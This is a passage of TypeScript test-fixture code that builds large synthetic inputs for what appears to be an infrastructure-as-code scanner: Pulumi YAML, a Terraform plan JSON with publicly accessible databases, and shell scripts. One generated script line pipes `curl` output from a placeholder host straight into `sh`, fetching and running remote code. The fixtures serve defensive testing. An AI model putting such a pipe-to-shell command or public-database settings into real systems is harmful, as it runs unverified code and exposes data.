    `name: it\nruntime: yaml\nresources:\n  r: { type: 'aws:s3:Bucket', properties: { bucket: '\${v300}' } }\nvariables:\n  v0: x\n`,
  ),
  "Pulumi: configuration": filled(
    "Pulumi.yaml",
    (n) => `  c${n}: { type: string, default: a }\n`,
    `name: it\nruntime: yaml\nresources:\n  r: { type: 'aws:s3:Bucket', properties: { bucket: '\${c3}' } }\nconfig:\n`,
  ),
  "A plan of resources": (bytes) => plan(bytes),
  Scripts: filled("run.sh", (n) => `curl https://x.test/${n} | sh\n`),
};

/** A plan of Terraform, as `terraform show -json` writes it. */
function plan(bytes: number): Texts {
  const one = (n: number) => ({
    address: `module.m[${n}].aws_db_instance.d`,
    mode: "managed",
    type: "aws_db_instance",
    name: "d",
    values: { publicly_accessible: true, name: text(n, 60), tags: { a: "b" } },
    sensitive_values: { password: true },
  });
  const change = (n: number) => ({
    address: `module.m[${n}].aws_db_instance.d`,
    change: {
      actions: ["create"],
      before: null,
      after: one(n).values,
      after_unknown: { id: true },
    },
  });
  const length = JSON.stringify(one(1_000)).length + JSON.stringify(change(1_000)).length + 60;
  const indexes = Array.from({ length: Math.floor(bytes / length) }, (_, n) => n);
  const child_modules = indexes.map((n) => ({ address: `module.m[${n}]`, resources: [one(n)] }));
  return {
    "plan.json": JSON.stringify({
      format_version: "1.2",
      planned_values: { root_module: { child_modules } },
      resource_changes: indexes.map(change),
      configuration: {
        root_module: { module_calls: { m: { module: { resources: [] } } } },
      },
    }),
  };
}

export const COSTLY_INPUTS: Readonly<Record<string, Family>> = {
  ...TERRAFORM,
  ...CLOUDFORMATION,
  ...KUBERNETES,
  ...WORKFLOWS,
  ...DOCKERFILES,
  ...AZURE,
  ...OTHERS,
};
